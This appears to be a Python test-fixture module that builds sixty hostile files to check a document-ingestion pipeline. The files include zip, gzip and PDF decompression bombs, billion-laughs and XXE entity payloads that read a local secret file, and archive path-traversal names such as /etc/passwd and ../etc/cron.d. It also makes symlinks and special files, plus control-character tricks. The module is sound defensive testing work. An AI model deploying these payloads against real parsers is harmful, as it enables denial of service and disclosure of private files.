"""Sixty hostile files: bombs, lies, entity tricks, nesting, path tricks, strange characters; all invented.

Each names what is to be said of it, and what must be read of it all the same.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import random
import socket
import stat
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path

from evals import samples
from evals.samples import pdf_of, record, stream, tarred, word_file, zipped

SAID = "Mayor Ada Tarn said that the harbour burned."
"""Stands in hostile files of which something is to be read."""
SECRET = "the code of the vault is seven"
"""Stands in a file outside the folder to which hostile files point. It must not come into the case."""
MB = 1 << 20
NOTHING = ""


@dataclass(frozen=True, slots=True)
class Hostile:
    """A hostile file, and what is right to do with it."""

    name: str
    put: Callable[[Path], object]
    """Makes it at a path."""
    named: frozenset[str]
    """Kinds of caveats, one of which must be said of it. None: it is harmless, and need not be named."""
    read: str
    """Words that must be read from it; "" where no report may come of it."""


def files(secret: Path) -> Iterator[Hostile]:
    """All sixty. `secret` is a file with `SECRET` outside the folder into which they are put."""
    for made in (_bombs(), _zips(), _tapes(), _entities(secret), _nested(), _pdfs(), _liars(), _signs(), _large()):
        for name, data, named, read in made:
            yield Hostile(name, _writer(data), frozenset(named.split()), read)
    yield Hostile("link.txt", lambda path: path.symlink_to(secret), frozenset({"not-read"}), NOTHING)
    yield Hostile("round.txt", lambda path: path.symlink_to(path.name), frozenset({"not-read"}), NOTHING)
    yield Hostile("pipe.txt", os.mkfifo, frozenset({"not-read"}), NOTHING)
    yield Hostile("socket.txt", _socket, frozenset({"not-read"}), NOTHING)


Made = Iterable[tuple[str, bytes, str, str]]
"""Name, bytes, the kinds of which one must be named (parted by blanks), and what must be read."""


def _writer(data: bytes) -> Callable[[Path], object]:
    return lambda path: path.write_bytes(data)


def _socket(path: Path) -> None:
    """A name that is a socket. Bound where the path is short, since a socket's must be."""
    here = Path.cwd()
    try:
        os.chdir(path.parent)
        with socket.socket(socket.AF_UNIX) as one:
            one.bind(path.name)
    finally:
        os.chdir(here)


def _bombs() -> Made:
    zeros = bytes(100 * MB)
    spaces = SAID.encode() + b" " * (60 * MB)
    yield "bomb.txt.gz", gzip.compress(zeros, 9, mtime=0), "too-large", NOTHING
    yield "bomb.txt.bz2", bz2.compress(zeros), "too-large", NOTHING
    yield "greedy.txt.xz", _greedy_xz(), "too-large damaged", NOTHING
    yield "bomb.zip", zipped({"a.txt": SAID.encode(), "b.txt": zeros}), "too-large", SAID
    yield "bomb.tar.gz", gzip.compress(tarred({"a.txt": zeros}), 9, mtime=0), "too-large", NOTHING
    yield "bomb.docx", _docx_bomb(), "too-large", NOTHING
    packed = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\n\r\n" + gzip.compress(
        zeros, mtime=0
    )
    yield "bomb.warc", record("response", "https://quay.example/b", packed) + _said_in_record(), "too-large", SAID
    yield (
        "bomb.pdf",
        _page(stream(zlib.compress(zeros, 9), b"/Filter/FlateDecode")),
        "not-read empty scan damaged too-large",
        NOTHING,
    )
    mail = _mail(b'Content-Type: application/gzip; name="a.txt.gz"', gzip.compress(spaces, 9, mtime=0))
    yield "bomb.eml", mail, "too-large", SAID


def _said_in_record() -> bytes:
    return record("resource", "https://quay.example/a", SAID.encode(), "text/plain")


def _greedy_xz() -> bytes:
    """A packed file whose header asks for 4 GB of memory (the .xz file format 1.2, §5.3.1)."""
    data = bytearray(lzma.compress(SAID.encode()))
    size = (data[12] + 1) * 4  # of the block's header, after the stream's of 12 bytes
    data[12 + 4] = 40
    data[12 + size - 4 : 12 + size] = struct.pack("<I", zlib.crc32(bytes(data[12 : 12 + size - 4])))
    return bytes(data)


def _docx_bomb() -> bytes:
    return word_file("<w:p><w:r><w:t>" + " " * (60 * MB) + "</w:t></w:r></w:p>")


def _mail(kind: bytes, body: bytes) -> bytes:
    """A message with words, and with this attached."""
    head = b"From: Ada <a@quay.example>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    words = b"--b\r\nContent-Type: text/plain\r\n\r\n" + SAID.encode() + b"\r\n"
    return head + words + b"--b\r\n" + kind + b"\r\nContent-Disposition: attachment\r\n\r\n" + body + b"\r\n--b--\r\n"


def _zips() -> Made:
    inner = SAID.encode()
    for _ in range(8):
        inner = zipped({"inner.zip": inner})
    yield "dolls.zip", inner, "too-deep", NOTHING
    yield "overlapping.zip", _overlapping(), "trick", NOTHING
    lying = zipped({"a.txt": bytes(20 * MB)})
    size = struct.pack("<I", 20 * MB)
    yield "small.zip", lying.replace(size, struct.pack("<I", 10)), "too-large damaged", NOTHING
    yield "zip64.zip", _zip64(), "damaged too-large", NOTHING
    yield "paths.zip", zipped(_paths()).replace(b"a@.txt", b"a\0.txt"), "name-points-outside", SAID
    yield "links.zip", _zip_of_links(), "link", SAID
    crowd = {f"{number}.txt": b"%d" % number for number in range(101_000)}
    yield "crowd.zip", zipped(crowd, method=zipfile.ZIP_STORED), "too-large", NOTHING
    yield "cut.zip", samples.archive(1)[:-40], "damaged", NOTHING


def _overlapping() -> bytes:
    """A thousand entries over the same bytes (D. Fifield, "A better zip bomb", 2019)."""
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.txt", bytes(MB))
        info = archive.infolist()[0]
        for number in range(1000):
            other = zipfile.ZipInfo(f"{number}.txt")
            for name in ("compress_type", "CRC", "compress_size", "file_size", "header_offset"):
                setattr(other, name, getattr(info, name))
            archive.filelist.append(other)
    return whole.getvalue()


def _zip64() -> bytes:
    """A directory that claims to have 2^62 entries and to lie at 2^63 (PKWARE APPNOTE §4.3.14)."""
    data = zipped({"a.txt": SAID.encode()})
    at = data.rindex(b"PK\x05\x06")
    end64 = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, 1 << 62, 1 << 62, 1 << 62, (1 << 63) - 1)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, at, 1)
    return (
        data[:at] + end64 + locator + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, *[0xFFFF] * 2, *[0xFFFFFFFF] * 2, 0)
    )


def _paths() -> dict[str, bytes]:
    names = (
        "../../../etc/cron.d/a.txt", "/etc/passwd", "C:\\Windows\\a.txt", "\\\\host\\share\\a.txt", "CON", "a@.txt",
        "b" * 4000, "c/" * 2000 + "c.txt", "\u202etxt.exe", "\x1b[2Jd.txt", "a\nb.txt", "...", "e.txt ", "~/.ssh/a",
    )  # fmt: skip
    return {name: f"{SAID} {number}".encode() for number, name in enumerate(names)}


def _zip_of_links() -> bytes:
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w") as archive:
        info = zipfile.ZipInfo("a.txt")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(info, "/etc/passwd")
        archive.writestr("b.txt", SAID)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # that the name is there twice is the trick
            archive.writestr("b.txt", f"{SAID} Twice.")
    return whole.getvalue()


def _tapes() -> Made:
    yield "links.tar", _tar_of_links(), "link no-file", SAID
    good = tarred({"a.txt": SAID.encode()})[:1024]
    yield "claims.tar", good + _claiming(b"77777777777\0"), "too-large damaged", SAID
    claims = record("resource", "https://quay.example/b", b"", "text/plain").replace(b"h: 0", b"h: 999999999999999")
    yield "claims.warc", _said_in_record() + claims + b"more", "damaged too-large", SAID
    yield "negative.tar", good + _claiming(b"\xff" * 11 + b"\0"), "damaged too-large", SAID


def _tar_of_links() -> bytes:
    whole = io.BytesIO()
    with tarfile.open(fileobj=whole, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, kind in (
            ("a", tarfile.SYMTYPE),
            ("b", tarfile.LNKTYPE),
            ("c", tarfile.CHRTYPE),
            ("d", tarfile.FIFOTYPE),
        ):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, "/etc/passwd"
            archive.addfile(info)
        for name in ("../../x.txt", "/etc/y.txt", "z" * 4000 + ".txt"):
            info = tarfile.TarInfo(name)
            info.size = len(SAID)
            archive.addfile(info, io.BytesIO(SAID.encode()))
    return whole.getvalue()


def _claiming(size: bytes) -> bytes:
    """A tar header that claims such a size, and nothing after it."""
    block = bytearray(tarfile.TarInfo("b.txt").tobuf())
    block[124:136] = size
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block)
    return bytes(block)


def _entities(secret: Path) -> Made:
    laughs = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(12))
    laughs = f'<!DOCTYPE html [<!ENTITY l0 "ha">{laughs}]>'
    outside = f'<!DOCTYPE html [<!ENTITY s SYSTEM "{secret.as_uri()}">]>'
    parameter = (
        f'<!DOCTYPE html [<!ENTITY % p SYSTEM "{secret.as_uri()}"><!ENTITY % q "<!ENTITY s SYSTEM'
        " 'http://127.0.0.1:9/%p;'>\">%q;]>"
    )
    body = "<p>{}</p><p>{}</p>"
    for name, before, called in (
        ("laughs", laughs, "&l12;"), ("outside", outside, "&s;"), ("parameter", parameter, "&s;"),
    ):  # fmt: skip
        page = f'<?xml version="1.0"?>{before}<html><body>{body.format(SAID, called)}</body></html>'
        yield f"{name}.xhtml", page.encode(), "", SAID
        word = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
        docx = word_file(word.format(SAID) + word.format(called), before=before.replace("html", "w:document", 1))
        yield f"{name}.docx", docx, "entity-trick", NOTHING


def _nested() -> Made:
    deep = f"<html><body>{'<div>' * 200_000}{SAID}"
    yield "deep.html", deep.encode(), "whole-page", SAID
    yield "deep.json", b"[" * 100_000 + b"]" * 100_000, "broken-json", NOTHING
    lines = b'{"text":' * 100_000 + b"\n" + json.dumps({"text": SAID, "publisher": "Tide"}).encode()
    yield "deep.jsonl", lines, "broken-json", SAID
    mime = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(2000))
    yield "deep.eml", b"From: a@quay.example\r\n" + mime + SAID.encode(), "message-too-deep message-cut", NOTHING
    forwarded = b"".join(b"From: a%d@quay.example\r\nContent-Type: message/rfc822\r\n\r\n" % n for n in range(500))
    yield "forwarded.eml", forwarded + SAID.encode(), "too-deep", NOTHING


def _page(content: bytes, *more: bytes, box: bytes = b"0 0 595 842", resources: bytes = b"/Font<</F1 5 0 R>>") -> bytes:
    """A PDF of one page; `more` are objects from number 6."""
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources<<%s>>>>" % (box, resources)
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", leaf]
    return pdf_of([*objects, content, samples.FONT, *more])


def _pdfs() -> Made:
    said = stream(samples.drawn([SAID]))
    whole = samples.document(1)
    yield "cut.pdf", whole[: len(whole) // 3], "damaged", NOTHING
    yield "count.pdf", _page(said).replace(b"/Count 1>>", b"/Count 2000000000>>"), "damaged", SAID
    ring = _page(said).replace(b"/Kids[3 0 R]", b"/Kids[2 0 R 3 0 R]")
    yield "ring.pdf", ring, "damaged", SAID
    tree = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 1) for number in range(6, 3000)]
    leaf = b"<</Type/Page/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>"
    deep = _page(said, *tree, leaf).replace(b"/Kids[3 0 R]", b"/Kids[6 0 R]")
    yield "deep.pdf", deep, "damaged not-read", NOTHING
    calls = [stream(b"/X Do " * 10, _form(number + 1)) for number in range(6, 30)]
    laughs = _page(stream(b"/X Do"), *calls, resources=b"/XObject<</X 6 0 R>>")
    yield "laughs.pdf", laughs, "bomb", NOTHING
    own = _page(stream(b"/X Do"), stream(b"/X Do /X Do", _form(6)), resources=b"/XObject<</X 6 0 R>>")
    yield "own.pdf", own, "bomb", NOTHING
    vast = b"0 0 1" + b"0" * 37 + b" 1" + b"0" * 37
    yield "vast.pdf", _page(said, box=vast), "", SAID
    loop = _page(said)
    at = loop.rindex(b"startxref\n") + 10
    place = loop[at : loop.index(b"\n", at)]
    yield "prev.pdf", loop.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev " + place + b">>"), "", SAID


def _form(number: int) -> bytes:
    return b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % number


def _liars() -> Made:
    noise = random.Random(4).randbytes(40_000)  # noqa: S311 - it is to be the same each time
    yield "picture.txt", b"\x89PNG\r\n\x1a\n" + noise, "binary", NOTHING
    yield "program.pdf", b"\x7fELF" + noise, "binary", NOTHING
    yield "paper.html", samples.document(901), "", samples.marker(901)
    yield "sealed.txt", zipped({"a.txt": SAID.encode()}), "", SAID
    yield "halves.txt", b"\xff\xfe" + SAID.encode("utf-16-le") + b"\x00\xd8\x00", "encoding-damaged", SAID


def _signs() -> Made:
    row = {"text": f"{SAID} \ud800\0\u202e", "title": "\udc00\0\u202eFire", "publisher": "\u202eediT\x1b[2J\ud800"}
    row["published"], row["authors"] = "9999-99-99T99:99", "\u2066Ada\0"
    yield "signs.jsonl", json.dumps(row).encode(), "half-characters", SAID
    yield "zeros.txt", SAID.encode() + b"\0" * 9, "binary", NOTHING
    yield "\u202etxt.signs.txt", f"publisher: \u202eediT\n\n{SAID}".encode(), "", SAID
    yield "\x1b[2Jline\nbreak.txt", f"publisher: Tide\npublished: 2031-02-30\n\n{SAID}".encode(), "", SAID


def _large() -> Made:
    attributes = " ".join(f"a{number}=1" for number in range(200_000))
    yield "attributes.html", f"<html><body {attributes}><p>{SAID}</p>".encode(), "whole-page", SAID
    yield "comments.html", f"<html><body><p>{SAID}</p>{'<!--' * 500_000}".encode(), "", SAID
    yield "line.txt", SAID.encode() + b"x" * (5 * MB), "", SAID
    columns = ",".join(f"c{number}" for number in range(1_000_000))
    yield "columns.csv", f"{columns}\n{'1,' * 1_000_000}".encode(), "too-large", NOTHING
    yield "number.jsonl", b'{"text": %s}' % (b"9" * MB), "broken-json no-text", NOTHING
    fields = b"".join(b"X-%d: a\r\n" % number for number in range(100_000))
    yield "fields.eml", b"From: a@quay.example\r\n" + fields + b"\r\n" + SAID.encode(), "", SAID
    parts = b"--b\r\n\r\nx\r\n" * 100_000
    head = b"From: a@quay.example\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    yield "parts.eml", head + b"--b\r\n\r\n" + SAID.encode() + b"\r\n" + parts, "message-too-many", SAID
